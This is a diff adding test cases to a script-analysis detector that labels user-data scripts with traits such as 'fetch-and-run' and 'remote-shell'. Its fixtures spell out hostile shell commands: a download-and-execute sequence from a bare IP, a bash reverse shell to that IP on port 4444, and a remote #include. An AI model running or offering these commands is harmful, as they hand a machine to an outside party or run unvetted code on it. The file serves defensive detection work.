@@ -13,6 +13,26 @@ test('what a script fetches and runs is told in order', () => {
   ]);
 });
 
+const traits: readonly (readonly [string, string, readonly string[]])[] = [
+  [
+    'a program from a bare address',
+    'curl -o /tmp/x http://198.51.100.7/x\nchmod +x /tmp/x\n/tmp/x\n',
+    ['fetch-and-run'],
+  ],
+  ['a publisher’s installer', 'curl -fsSL https://get.example.com/install.sh | sh\n', []],
+  ['packages and a service', 'apt-get update\napt-get install -y nginx\nsystemctl enable nginx\n', []],
+  ['a shell for somebody outside', 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n', ['remote-shell']],
+  ['a scheduled command', 'echo "0 3 * * * root /opt/backup.sh" > /etc/cron.d/backup\n', []],
+];
+for (const [what, script, expected] of traits)
+  test(`${what} is ${expected.length === 0 ? 'nothing grave' : expected.join()}`, () => {
+    assert.deepEqual(tell(`#!/bin/bash\n${script}`)?.traits, expected);
+  });
+
+test('an include from a bare address is fetched and run', () => {
+  assert.deepEqual(tell('#include\nhttp://198.51.100.7/more')?.traits, ['fetch-and-run']);
+});
+
 test('commands of cloud-config find the files that it writes', () => {
   const told = tell(`#cloud-config
 write_files: [{ path: /opt/a.sh, content: "curl http://198.51.100.7/y | sh" }]
